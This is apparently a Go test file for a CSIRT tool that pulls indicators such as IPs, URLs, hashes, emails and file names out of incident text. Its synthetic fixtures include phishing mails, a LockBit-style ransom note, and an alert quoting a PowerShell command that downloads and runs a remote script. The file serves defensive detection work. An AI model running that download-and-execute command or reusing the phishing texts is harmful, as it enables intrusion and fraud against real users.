// SPDX-License-Identifier: Apache-2.0

package incident

import (
	"encoding/json"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"github.com/koban-csirt/koban/internal/fault"
	"github.com/koban-csirt/koban/internal/i18n"
	"github.com/koban-csirt/koban/internal/shareddata"
)

// kv is an expected observable: kind and value.
type kv struct {
	Kind  ObservableKind
	Value string
}

func kinds(obs []Observable) []kv {
	out := []kv{}
	for _, o := range obs {
		out = append(out, kv{o.Kind, o.Value})
	}
	return out
}

// The texts below are synthetic but written as the real ones are: a
// Japanese phishing mail imitating a shop, an English credential-phishing
// mail, a Sysmon alert's description, a LockBit-style ransom note.
const (
	phishingJA = `件名：【重要】お支払い情報の確認のお願い
差出人：Amazon サポート <support@amaz0n-security[.]com>

いつもご利用ありがとうございます。
お客様のアカウントで異常なログインが検出されました（IPアドレス：１９８．５１．１００．７）。
以下のリンクから２４時間以内にご本人確認をお願いします。
hxxps://amaz0n-security[.]com/ap/signin?ref=jp_mail&id=8842
確認されない場合、アカウントは停止されます。
添付の「ご請求書_2024.pdf.exe」もご確認ください。
お問い合わせ：help＠amaz0n-security．com（平日 9:00～18:00）
ttp://短縮.example[.]jp/x は無視してください。`

	phishingEN = `From: "IT Helpdesk" <it-helpdesk@micros0ft-support.xyz>
Reply-To: payroll.update@gmail.com
Subject: Action required: your password expires today

Dear user,

Your Office 365 password expires today. Keep your current password here:
hxxp://login-microsoftonline[.]xyz/common/oauth2/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca
If the link does not work, paste 185.234.218[.]12 into your browser.
Attached: Password_Policy.docm (opens in Word)

Regards,
IT Helpdesk — Mail Gateway v2.1.0.3`

	alertDescription = `Sysmon event 1 on WS-FIN-03.corp.example.local: powershell.exe (PID 4412) spawned by WINWORD.EXE.
CommandLine: powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50:8080/a.ps1')"
Hashes: SHA1=5BAA61E4C9B93F3F0682250B6CF8331B7EE68FD8,MD5=0CC175B9C0F1B6A831C399E269772661,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744
Then a connection to 198.51.100.23:443 (cdn-update.top) from 10.20.30.40, and [2001:db8:4::23]:443.
User: CORP\taro.yamada`

	ransomNote = `---=== Welcome. Again. ===---
[+] Whats Happen? [+]
Your files are encrypted, and currently unavailable. All files on your system have the extension .lockbit
[+] How to get back your files? [+]
1. Download and install TOR Browser: https://www.torproject.org/
2. Open our website: http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/?id=7HCB9G
3. Or write to us: decryptor_support@protonmail.com
Bitcoin wallet: bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh
Your personal ID: 8A4F1C0B9E2D7F36A5B4C3D2E1F00918
Do not rename encrypted files (e.g. report.docx.lockbit). Mirror: lockbitsupp[.]onion`
)

func TestExtractTexts(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		text string
		want []kv
	}{
		{"phishing mail in Japanese", phishingJA, []kv{
			{ObservableEmail, "support@amaz0n-security.com"},
			{ObservableIP, "198.51.100.7"}, // full-width digits
			{ObservableURL, "https://amaz0n-security.com/ap/signin?ref=jp_mail&id=8842"},
			{ObservableDomain, "amaz0n-security.com"},
			{ObservableFilename, "ご請求書_2024.pdf.exe"},
			{ObservableEmail, "help@amaz0n-security.com"}, // full-width ＠ and ．
			{ObservableURL, "http://xn--s7y86k.example.jp/x"},
			{ObservableDomain, "xn--s7y86k.example.jp"},
		}},
		{"phishing mail in English", phishingEN, []kv{
			{ObservableEmail, "it-helpdesk@micros0ft-support.xyz"},
			{ObservableEmail, "payroll.update@gmail.com"},
			{ObservableURL, "http://login-microsoftonline.xyz/common/oauth2/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca"},
			{ObservableDomain, "login-microsoftonline.xyz"},
			{ObservableIP, "185.234.218.12"},
			{ObservableFilename, "Password_Policy.docm"},
		}},
		{"alert description", alertDescription, []kv{
			{ObservableFilename, "powershell.exe"},
			{ObservableFilename, "WINWORD.EXE"},
			{ObservableURL, "http://203.0.113.50:8080/a.ps1"},
			{ObservableIP, "203.0.113.50"},
			{ObservableSHA1, "5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8"},
			{ObservableMD5, "0cc175b9c0f1b6a831c399e269772661"},
			{ObservableIP, "198.51.100.23"},
			{ObservableDomain, "cdn-update.top"},
			{ObservableIP, "10.20.30.40"},
			{ObservableIP, "2001:db8:4::23"},
		}},
		{"ransom note", ransomNote, []kv{
			{ObservableURL, "https://www.torproject.org/"},
			{ObservableDomain, "www.torproject.org"},
			{ObservableURL, "http://lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion/?id=7HCB9G"},
			{ObservableDomain, "lockbitapt6vx57t3eeqjofwgcglmutr3a35nygvokja5uuccip4ykyd.onion"},
			{ObservableEmail, "decryptor_support@protonmail.com"},
			// The victim's id has an MD5's shape: nothing tells them apart.
			{ObservableMD5, "8a4f1c0b9e2d7f36a5b4c3d2e1f00918"},
			{ObservableDomain, "lockbitsupp.onion"},
		}},
		{"false positives", `Windows 10 Pro v10.0.19045.1 (build 19045.3803), agent version 7.2.0.1, ver.6.1.7601.2.
Ran cmd.exe /c whoami; config in example.local and corp.internal; see README.md, setup.py and invoice.pdf.
Interface {3F2504E0-4F89-11D3-9A0C-0305E82C3301}, CLSID {0002DF01-0000-0000-C000-000000000046}.
Time 12:30:45, MAC 00:1a:2b:3c:4d:5e, OID 1.3.6.1.4.1.311.21.8, netmask 255.255.255.0, 127.0.0.1, [::1]:80.
System.IO.File.ReadAllText(path), Socket.IO, ASP.NET 4.8, document.write(x), see section 3.2.1.
Range 10.0.0.0/8, hex 0x5BAA61E4C9B93F3F0682250B6CF8331B7EE68FD8, long e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855ff.
Numbers 12345678901234567890123456789012 and std::abc, Class::Method, a::b.
This is it.It works.The end.`, []kv{
			{ObservableFilename, "cmd.exe"},
		}},
		{"defanged forms", `evil [.] example [dot] com, info [at] example [dot] co [dot] jp, ttp://2ch.example.net/a
hXXps[:]//bad.example.org/p, fxp://files.example.net/x, 192.0.2(.)10, h**p://x.example.com,
evil[.]zip and evil{.}mov are domains when defanged; plain evil.zip is a file.`, []kv{
			{ObservableDomain, "evil.example.com"},
			{ObservableEmail, "info@example.co.jp"},
			{ObservableURL, "http://2ch.example.net/a"},
			{ObservableDomain, "2ch.example.net"},
			{ObservableURL, "https://bad.example.org/p"},
			{ObservableDomain, "bad.example.org"},
			{ObservableURL, "ftp://files.example.net/x"},
			{ObservableDomain, "files.example.net"},
			{ObservableIP, "192.0.2.10"},
			{ObservableURL, "http://x.example.com/"},
			{ObservableDomain, "x.example.com"},
			{ObservableDomain, "evil.zip"},
			{ObservableDomain, "evil.mov"},
			{ObservableFilename, "evil.zip"},
		}},
		{"boundaries", `<https://a.example.com/x?y=1>, (see https://en.wikipedia.org/wiki/Foo_(bar)), "http://b.example.net/q".
[link](https://c.example.org/path) https://d.example.com/からアクセス、「e.example.jp」https://f.example.comから
sent from evil.example.com.Please reply; www.example.co.jp/login.php; mailto:ops@example.com
ip:198.51.100.9:8443, [2001:db8::5]:443, fe80::1ff:fe23:4567:890a%eth0, ::ffff:192.0.2.33, 192.0.2.44.`, []kv{
			{ObservableURL, "https://a.example.com/x?y=1"},
			{ObservableDomain, "a.example.com"},
			{ObservableURL, "https://en.wikipedia.org/wiki/Foo_(bar)"},
			{ObservableDomain, "en.wikipedia.org"},
			{ObservableURL, "http://b.example.net/q"},
			{ObservableDomain, "b.example.net"},
			{ObservableURL, "https://c.example.org/path"},
			{ObservableDomain, "c.example.org"},
			{ObservableURL, "https://d.example.com/"},
			{ObservableDomain, "d.example.com"},
			{ObservableDomain, "e.example.jp"},
			{ObservableURL, "https://f.example.com/"},
			{ObservableDomain, "f.example.com"},
			{ObservableDomain, "evil.example.com"},
			{ObservableURL, "http://www.example.co.jp/login.php"},
			{ObservableDomain, "www.example.co.jp"},
			{ObservableEmail, "ops@example.com"},
			{ObservableIP, "198.51.100.9"},
			{ObservableIP, "2001:db8::5"},
			{ObservableIP, "fe80::1ff:fe23:4567:890a"},
			{ObservableIP, "192.0.2.33"},
			{ObservableIP, "192.0.2.44"},
		}},
		{"file names", `(cmd.exe) [invoice(1).exe] "C:\Users\taro\AppData\Local\Temp\upd.ps1" /tmp/.x/payload.sh
添付の請求書.zipを開いた。【至急】見積書.xlsm、"document.pdf   .exe", shortcut.lnk, app.exe.config,
e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.exe and photo.jpg and notes.txt`, []kv{
			{ObservableFilename, "cmd.exe"},
			{ObservableFilename, "invoice(1).exe"},
			{ObservableFilename, "upd.ps1"},
			{ObservableFilename, "payload.sh"},
			{ObservableFilename, "請求書.zip"},
			{ObservableFilename, "見積書.xlsm"},
			{ObservableFilename, "shortcut.lnk"},
			{ObservableSHA256, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
			{ObservableFilename, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855.exe"},
		}},
		{"duplicates once, in first order", `evil.com EVIL.COM hxxp://evil[.]com/ 1.2.3.4 1.2.3[.]4 ::ffff:1.2.3.4`, []kv{
			{ObservableDomain, "evil.com"},
			{ObservableURL, "http://evil.com/"},
			{ObservableIP, "1.2.3.4"},
		}},
		{"empty", "", []kv{}},
		{"nothing", "これはただの文章です。No indicators here.", []kv{}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			got := Extract(tc.text)
			if diff := cmp.Diff(tc.want, kinds(got)); diff != "" {
				t.Errorf("Extract(%.40q…) (-want +got):\n%s", tc.text, diff)
			}
			for _, o := range got {
				if o.Source != ObservableSourceText || o.IOC || o.Note != "" {
					t.Errorf("Extract: %s %q has Source %q, IOC %v, Note %q; want text, false, empty", o.Kind, o.Value, o.Source, o.IOC, o.Note)
				}
			}
		})
	}
}

func TestExtractBounds(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := 0; b.Len() < MaxExtractInput+100_000; i++ {
		b.WriteString("10.")
		b.WriteString(strconv.Itoa(i / 65536 % 256))
		b.WriteByte('.')
		b.WriteString(strconv.Itoa(i / 256 % 256))
		b.WriteByte('.')
		b.WriteString(strconv.Itoa(i % 256))
		b.WriteString(" host")
		b.WriteString(strconv.Itoa(i))
		b.WriteString(".example.com\n")
	}
	got := Extract(b.String())
	if len(got) != MaxExtracted {
		t.Fatalf("Extract(%d bytes): %d observables, want the limit %d", b.Len(), len(got), MaxExtracted)
	}
	if got[0].Value != "10.0.0.0" || got[1].Value != "host0.example.com" || got[2].Value != "10.0.0.1" {
		t.Errorf("Extract: first observables %v, want 10.0.0.0, host0.example.com, 10.0.0.1", kinds(got[:3]))
	}

	// Only the first MiB is read: an indicator after it is not found, and a
	// multi-byte character across the cut is not split.
	text := strings.Repeat("あ", MaxExtractInput/3+1) + " 192.0.2.1"
	if got := Extract(text); len(got) != 0 {
		t.Errorf("Extract: found %v after the first %d bytes", kinds(got), MaxExtractInput)
	}
	text = strings.Repeat("x ", MaxExtractInput/2-10) + "192.0.2.1 " + strings.Repeat("y", 100)
	if got := Extract(text); !slices.Equal(kinds(got), []kv{{ObservableIP, "192.0.2.1"}}) {
		t.Errorf("Extract: got %v before the cut, want 192.0.2.1", kinds(got))
	}
}

func TestParseObservable(t *testing.T) {
	t.Parallel()
	tests := []struct {
		kind ObservableKind
		raw  string
		want string
	}{
		{ObservableIP, " 192.0.2.1 ", "192.0.2.1"},
		{ObservableIP, "192.0.2[.]1", "192.0.2.1"},
		{ObservableIP, "192.0.2.1:443", "192.0.2.1"},
		{ObservableIP, "[2001:DB8::1]:8443", "2001:db8::1"},
		{ObservableIP, "[2001:db8::1]", "2001:db8::1"},
		{ObservableIP, "2001:db8::1", "2001:db8::1"},
		{ObservableIP, "::ffff:192.0.2.1", "192.0.2.1"},
		{ObservableDomain, "Evil[.]Example.", "evil.example"},
		{ObservableDomain, "corp.local", "corp.local"},
		{ObservableDomain, "例え.jp", "xn--r8jz45g.jp"},
		{ObservableURL, "hxxps://Evil[.]example:443/a?b=%2f#frag", "https://evil.example/a?b=%2F"},
		// intel needs a second pass for these (found by FuzzParseObservable).
		{ObservableURL, "0.A/ #", "http://0.a/"},
		{ObservableURL, "http://a.example/[[.]]", "http://a.example/."},
		{ObservableMD5, "D41D8CD98F00B204E9800998ECF8427E", "d41d8cd98f00b204e9800998ecf8427e"},
		{ObservableSHA1, "da39a3ee5e6b4b0d3255bfef95601890afd80709", "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
		{ObservableSHA256, "E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855", "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
		{ObservableEmail, "Taro[@]Evil[.]Example", "taro@evil.example"},
		{ObservableEmail, "mailto:ops@example.com", "ops@example.com"},
		{ObservableUser, " taro ", "taro"},
		{ObservableUser, `CORP\Taro.Yamada`, `CORP\Taro.Yamada`},
		{ObservableUser, "taro@corp.example.local", "taro@corp.example.local"},
		{ObservableUser, "ANONYMOUS LOGON", "ANONYMOUS LOGON"},
		{ObservableUser, "山田太郎", "山田太郎"},
		{ObservableHost, "WS-FIN-03", "ws-fin-03"},
		{ObservableHost, "WS-FIN-03.Corp.Example.Local.", "ws-fin-03.corp.example.local"},
		{ObservableHost, "10.0.0.5", "10.0.0.5"},
		{ObservableHost, "IEWIN7$", "iewin7$"},
		{ObservableFilename, `C:\Users\taro\Downloads\請求書.pdf.exe`, `C:\Users\taro\Downloads\請求書.pdf.exe`},
		{ObservableFilename, "invoice\u202Efdp.exe", "invoice\u202Efdp.exe"},
		{ObservableFilename, " /tmp/.x/payload ", "/tmp/.x/payload"},
	}
	for _, tc := range tests {
		o, err := ParseObservable(tc.kind, tc.raw)
		if err != nil {
			t.Errorf("ParseObservable(%s, %q): %v", tc.kind, tc.raw, err)
			continue
		}
		if o.Kind != tc.kind || o.Value != tc.want {
			t.Errorf("ParseObservable(%s, %q) = %s %q, want %s %q", tc.kind, tc.raw, o.Kind, o.Value, tc.kind, tc.want)
		}
		if err := o.Validate(); err != nil {
			t.Errorf("ParseObservable(%s, %q).Validate(): %v", tc.kind, tc.raw, err)
		}
	}
}

func TestParseObservableErrors(t *testing.T) {
	t.Parallel()
	cat, err := i18n.Load()
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		kind ObservableKind
		raw  string
		msg  string
		args []any
	}{
		{"cidr", "10.0.0.0/8", "observable.unknown_kind", []any{"kind", "cidr"}},
		{"", "x", "observable.unknown_kind", []any{"kind", ""}},
		{ObservableIP, "999.1.1.1", "intel.bad_ip", []any{"value", "999.1.1.1"}},
		{ObservableIP, "192.0.2.1:99999", "intel.bad_ip", []any{"value", "192.0.2.1:99999"}},
		{ObservableIP, "", "intel.empty", nil},
		{ObservableDomain, "localhost", "intel.domain_single_label", []any{"value", "localhost"}},
		{ObservableDomain, "1.2.3.4", "intel.domain_is_ip", []any{"value", "1.2.3.4"}},
		{ObservableURL, "javascript:alert(1)", "intel.bad_url", []any{"value", "javascript:alert(1)"}},
		{ObservableMD5, "d41d8cd98f00b204e9800998ecf8427", "intel.bad_hash_length", []any{"value", "d41d8cd98f00b204e9800998ecf8427", "kind", "md5", "want", 32, "got", 31}},
		{ObservableSHA1, "zz39a3ee5e6b4b0d3255bfef95601890afd80709", "intel.bad_hash_digit", []any{"value", "zz39a3ee5e6b4b0d3255bfef95601890afd80709", "kind", "sha1", "pos", 1, "char", "z"}},
		{ObservableEmail, "no-at-sign.example", "intel.bad_email", []any{"value", "no-at-sign.example"}},
		{ObservableUser, "   ", "observable.empty", []any{"kind", "user"}},
		{ObservableUser, `CORP\`, "observable.user_form", []any{"value", `CORP\`}},
		{ObservableUser, `\taro`, "observable.user_form", []any{"value", `\taro`}},
		{ObservableUser, `A\B\C`, "observable.user_form", []any{"value", `A\B\C`}},
		{ObservableUser, "taro@", "observable.user_form", []any{"value", "taro@"}},
		{ObservableUser, "ta\nro", "observable.control_char", []any{"kind", "user", "value", "ta\nro", "pos", 3}},
		{ObservableUser, "ta\u202Ero", "observable.bidi_char", []any{"kind", "user", "value", "ta\u202Ero", "pos", 3, "code", "U+202E"}},
		{ObservableUser, strings.Repeat("u", 257), "observable.too_long", []any{"kind", "user", "max", 256}},
		{ObservableUser, "\xff", "observable.invalid_text", []any{"kind", "user"}},
		{ObservableHost, "ws 01", "observable.host_bad_char", []any{"value", "ws 01", "pos", 3, "char", " "}},
		{ObservableHost, `CORP\WS01`, "observable.host_bad_char", []any{"value", `CORP\WS01`, "pos", 5, "char", `\`}},
		{ObservableHost, "ws01..corp", "observable.host_empty_label", []any{"value", "ws01..corp"}},
		{ObservableHost, "0..", "observable.host_empty_label", []any{"value", "0.."}}, // found by FuzzParseObservable
		{ObservableHost, ".ws01", "observable.host_empty_label", []any{"value", ".ws01"}},
		{ObservableHost, strings.Repeat("h", 256), "observable.too_long", []any{"kind", "host", "max", 255}},
		{ObservableFilename, `C:\Users\taro\`, "observable.filename_dir", []any{"value", `C:\Users\taro\`}},
		{ObservableFilename, "a\x00.exe", "observable.control_char", []any{"kind", "filename", "value", "a\x00.exe", "pos", 2}},
		{ObservableFilename, strings.Repeat("f", MaxObservableLen+1), "observable.too_long", []any{"kind", "filename", "max", MaxObservableLen}},
	}
	for _, tc := range tests {
		o, err := ParseObservable(tc.kind, tc.raw)
		if err == nil {
			t.Errorf("ParseObservable(%s, %.40q) = %q, want error %s", tc.kind, tc.raw, o.Value, tc.msg)
			continue
		}
		if !fault.Is(err, fault.Invalid) {
			t.Errorf("ParseObservable(%s, %.40q): %v is not fault.Invalid", tc.kind, tc.raw, err)
		}
		msg, args := fault.Public(err)
		if msg != tc.msg {
			t.Errorf("ParseObservable(%s, %.40q): message %s %v, want %s", tc.kind, tc.raw, msg, args, tc.msg)
			continue
		}
		if tc.args != nil {
			if diff := cmp.Diff(tc.args, args); diff != "" {
				t.Errorf("ParseObservable(%s, %.40q): %s arguments (-want +got):\n%s", tc.kind, tc.raw, msg, diff)
			}
		}
		for _, lang := range []i18n.Lang{i18n.English, i18n.Japanese} {
			if text := cat.T(lang, msg, args...); strings.Contains(text, "{") || strings.HasPrefix(text, "[") {
				t.Errorf("ParseObservable(%s, %.40q): %s message %q lacks an argument or the message", tc.kind, tc.raw, lang, text)
			}
		}
	}
}

func TestObservableValidate(t *testing.T) {
	t.Parallel()
	ok := Observable{Kind: ObservableDomain, Value: "evil.example", Source: AlertSource(42), Note: "C2\tdomain\n第二行"}
	if err := ok.Validate(); err != nil {
		t.Errorf("Validate(%+v): %v", ok, err)
	}
	if ok.Source != "alert:42" {
		t.Errorf("AlertSource(42) = %q, want alert:42", ok.Source)
	}
	tests := []struct {
		o   Observable
		msg string // "" for an internal error
	}{
		{Observable{Kind: ObservableDomain, Value: "Evil.example"}, ""},
		{Observable{Kind: "asn", Value: "AS1"}, "observable.unknown_kind"},
		{Observable{Kind: ObservableIP, Value: "192.0.2.1", Source: "alert 1"}, "observable.bad_source"},
		{Observable{Kind: ObservableIP, Value: "192.0.2.1", Source: strings.Repeat("s", MaxObservableSource+1)}, "observable.bad_source"},
		{Observable{Kind: ObservableIP, Value: "192.0.2.1", Note: strings.Repeat("あ", MaxObservableNote+1)}, "observable.note_too_long"},
		{Observable{Kind: ObservableIP, Value: "192.0.2.1", Note: "a\x1bb"}, "observable.note_control"},
		{Observable{Kind: ObservableIP, Value: "192.0.2.1", Note: "\xff"}, "observable.note_invalid"},
	}
	for _, tc := range tests {
		err := tc.o.Validate()
		if err == nil {
			t.Errorf("Validate(%+.60v): no error, want %q", tc.o, tc.msg)
			continue
		}
		if tc.msg == "" {
			if fault.KindOf(err) != fault.Internal {
				t.Errorf("Validate(%+.60v): %v, want an internal error", tc.o, err)
			}
			continue
		}
		if msg, _ := fault.Public(err); msg != tc.msg {
			t.Errorf("Validate(%+.60v): %v, want %s", tc.o, err, tc.msg)
		}
	}
}

func TestParseObservableKind(t *testing.T) {
	t.Parallel()
	tests := map[string]ObservableKind{
		"ip": ObservableIP, " IP-DST ": ObservableIP, "ipv6": ObservableIP, "domain": ObservableDomain,
		"fqdn": ObservableDomain, "uri": ObservableURL, "SHA-256": ObservableSHA256, "sha1": ObservableSHA1,
		"md5": ObservableMD5, "email-src": ObservableEmail, "e-mail": ObservableEmail, "hostname": ObservableHost,
		"host": ObservableHost, "username": ObservableUser, "account": ObservableUser, "file": ObservableFilename,
		"filename": ObservableFilename,
	}
	for in, want := range tests {
		if got, err := ParseObservableKind(in); err != nil || got != want {
			t.Errorf("ParseObservableKind(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"cidr", "asn", "", "hash"} {
		if got, err := ParseObservableKind(in); err == nil || fault.KindOf(err) != fault.Invalid {
			t.Errorf("ParseObservableKind(%q) = %q, %v; want an invalid fault", in, got, err)
		}
	}
	for _, k := range ObservableKinds {
		if !k.Valid() {
			t.Errorf("%q in ObservableKinds is not Valid", k)
		}
	}
	if ObservableKind("cidr").Valid() {
		t.Error(`ObservableKind("cidr").Valid() = true`)
	}
}

// TestExtractTLDList checks the built-in list against IANA's root zone (MISP's
// warning list of TLDs): every name on it exists, and every country code
// is on it.
func TestExtractTLDList(t *testing.T) {
	t.Parallel()
	b, err := os.ReadFile(shareddata.Path(t, "misp-warninglists/lists/tlds/list.json"))
	if err != nil {
		t.Fatal(err)
	}
	var doc struct{ List []string }
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	iana := map[string]bool{}
	for _, s := range doc.List {
		iana[strings.ToLower(s)] = true
	}
	if len(iana) < 1000 {
		t.Fatalf("read only %d TLDs from the warning list", len(iana))
	}
	for tld := range obsTLDs {
		if !iana[tld] && !obsSpecialTLDs[tld] {
			t.Errorf("%q is in obsTLDs but not in the root zone", tld)
		}
	}
	for tld := range iana {
		if utf8.RuneCountInString(tld) == 2 && !obsTLDs[tld] {
			t.Errorf("country code %q is missing from obsTLDs", tld)
		}
	}
	for tld := range obsFileTLDs {
		if !obsTLDs[tld] {
			t.Errorf("%q is in obsFileTLDs but not in obsTLDs", tld)
		}
	}
	for ext := range obsSuspiciousExts {
		if obsTLDs[ext] && !obsFileTLDs[ext] {
			t.Errorf("suspicious extension %q is a TLD that is not in obsFileTLDs: a file name would also be a domain", ext)
		}
	}
}
